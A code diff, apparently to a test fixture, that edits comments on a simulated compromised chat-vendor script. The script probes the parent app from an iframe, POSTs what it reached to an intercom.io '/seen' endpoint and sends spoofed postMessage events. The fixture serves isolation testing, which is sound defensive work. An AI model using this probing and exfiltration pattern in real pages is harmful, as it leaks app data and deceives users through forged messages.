@@ -1,4 +1,4 @@
-/** What a script in the page of the chat can reach; runs there in the place of the vendor's. */
+/** Tries to access the app from the page of the chat, where it runs in place of the vendor's script. */
 function hostile(): void {
   const attempts: Record<string, () => unknown> = {
     "the app's address": () => window.parent.location.href,
@@ -29,15 +29,15 @@ function hostile(): void {
   });
   const seen = { reached, origin: window.origin, referrer: document.referrer };
   void fetch('https://api-iam.eu.intercom.io/seen', { method: 'POST', body: JSON.stringify(seen) });
-  // Anything but the line is nothing to the app.
+  // The app must ignore all of these messages.
   for (const message of ['line', 'here', { type: 'shown' }, { type: 'unread', count: 99 }])
     window.parent.postMessage(message, '*');
 }
 
-/** A vendor's script that was taken over, as text. */
+/** The source of that script, which simulates a compromised vendor. */
 export const HOSTILE_SCRIPT = `(${hostile.toString()})()`;
 
-/** What the hostile script says that it has reached; undefined until it has said so. */
+/** The report of the hostile script; undefined until it has sent one. */
 export function whatItReached(sent: readonly string[]): unknown {
   const seen = sent.find((each) => each.includes('/seen'));
   return seen === undefined ? undefined : JSON.parse(seen.slice(seen.indexOf('{"reached"')));
